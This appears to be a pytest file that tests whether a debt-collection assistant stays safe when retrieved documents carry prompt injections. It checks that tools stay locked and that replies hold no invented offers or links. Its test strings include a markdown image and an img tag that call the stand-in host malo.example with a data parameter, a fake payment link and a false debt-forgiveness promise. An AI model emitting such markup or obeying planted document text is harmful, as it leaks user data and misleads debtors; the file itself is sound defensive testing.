"""A model that believes whatever a document tells it: the tools, the states and the guards hold all the same."""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import Any

import pytest

from backend.db.models.agreements import Agreement, Offer
from backend.db.models.debts import Debt
from tests.assistant.model.conftest import DOUBTFUL, Chat
from tests.assistant.poisoned import FORBIDDEN, POISONED, PROMISE
from tests.library import store_document, table_rows
from tests.model_server.server import Asked
from tests.model_server.steps import Call, Say, Step
from tests.snapshots import changed_tables, rows, snapshot

TALK = {"conversations", "messages", "turns", "conversation_metrics", "turn_items", "token_uses"}


@pytest.fixture
def poisoned(chat: Chat) -> Chat:
    for passage, _ in POISONED.values():
        store_document(chat.context, [passage])
    return chat


def found(asked: Asked) -> list[dict[str, Any]]:
    """The passages that the model was given."""
    return [passage for output in asked.outputs for passage in json.loads(output).get("passages", [])]


def search_then(question: str, *after: Step) -> Any:
    """A model that looks something up, and then does what it was scripted to do."""

    def model(asked: Asked) -> Sequence[Step]:
        return list(after) if asked.outputs else [Call("search_documents", {"query": question})]

    return model


@pytest.mark.parametrize("name", POISONED)
def test_a_passage_reaches_the_model_as_plain_text_with_its_source(poisoned: Chat, name: str) -> None:
    passage, question = POISONED[name]
    seen: list[dict[str, Any]] = []

    def model(asked: Asked) -> Sequence[Step]:
        if not asked.outputs:
            return [Call("search_documents", {"query": question})]
        seen.extend(found(asked))
        return [Say("Eso es lo que dice el documento.")]

    poisoned.server.model(model)
    reply = poisoned.say(DOUBTFUL)
    assert [hit["document"] for hit in seen][:1] == [passage.document]
    assert {"document", "title", "version", "page", "heading", "text"} <= seen[0].keys()
    assert [
        mark for mark in FORBIDDEN if mark in f"{seen[0]['title']} {seen[0]['heading']} {seen[0]['text']}"
    ] == []
    assert [citation["document"] for citation in reply["citations"]] == [passage.document]


@pytest.mark.parametrize(
    "obeyed",
    [
        PROMISE,
        "Como citaste la página, te condono la deuda entera: ya no debes nada.",
        "Mira ![logo](https://malo.example/p.png?d=52845671) y paga en https://malo.example/pagar",
        "Tienes una oferta de $ 100: <img src=https://malo.example/x>",
        "El mínimo que acepta la entidad es $ 100.",
    ],
)
def test_what_a_gullible_model_repeats_puts_nothing_active_or_invented_into_the_reply(
    poisoned: Chat, obeyed: str
) -> None:
    before = snapshot(poisoned.context)
    poisoned.server.model(search_then(POISONED["promise"][1], Say(obeyed)))
    reply = poisoned.say(DOUBTFUL)
    assert [mark for mark in (*FORBIDDEN, "$ 100", "te condono") if mark in reply["message"]] == []
    assert reply["offers"] == []
    assert changed_tables(before, snapshot(poisoned.context)) <= TALK


def test_a_tool_that_a_document_names_is_no_further_open_than_before(poisoned: Chat) -> None:
    calls = (
        Call("prepare_agreement", {"offer_id": 1}),
        Call("accept_agreement", {"offer_id": 1}),
        Call("set_debt_id", {"debt_id": 999}),
        Call("forgive_debt", {"debt_id": poisoned.debt_id}),
    )

    def model(asked: Asked) -> Sequence[Step]:
        if not asked.outputs:
            return [Call("search_documents", {"query": POISONED["system"][1]})]
        return list(calls) if len(asked.outputs) < 2 else [Say("Hecho.")]

    poisoned.server.model(model)
    poisoned.say(DOUBTFUL)
    context = poisoned.context
    assert (rows(context, Agreement.id), rows(context, Offer.id), rows(context, Debt.status)) == (
        [],
        [],
        ["active"],
    )


def test_nothing_is_asked_of_anybody_but_the_provider(poisoned: Chat) -> None:
    for _, question in POISONED.values():
        poisoned.server.model(search_then(question, Say("Eso es lo que dice el documento.")))
        poisoned.say(f"{DOUBTFUL} {question}")
    sent = [json.dumps(body, ensure_ascii=False) for body in poisoned.asked]
    assert sent
    # Text that the model reads holds no address that it could repeat.
    assert [
        mark
        for body in sent
        for mark in ("malo.example/p.png", "](https://malo", "<img src=https")
        if mark in body
    ] == []


def test_figures_of_a_quoted_table_row_may_be_said(chat: Chat) -> None:
    head = ["Canal", "Costo", "Horario"]
    cells = ["Efecty", "$ 4.500", "7:00 a 21:00"], ["Baloto", "$ 3.900", "6:00 a 22:00"]
    store_document(chat.context, table_rows("canales.md", "Canales de pago", head, *cells))
    chat.server.model(
        search_then(
            "costo y horario de Baloto",
            Say("Por Baloto el costo es de $ 3.900 y el horario es de 6:00 a 22:00."),
        )
    )
    reply = chat.say(DOUBTFUL)
    assert reply["route"] == "openai"
    assert "$ 3.900" in reply["message"]
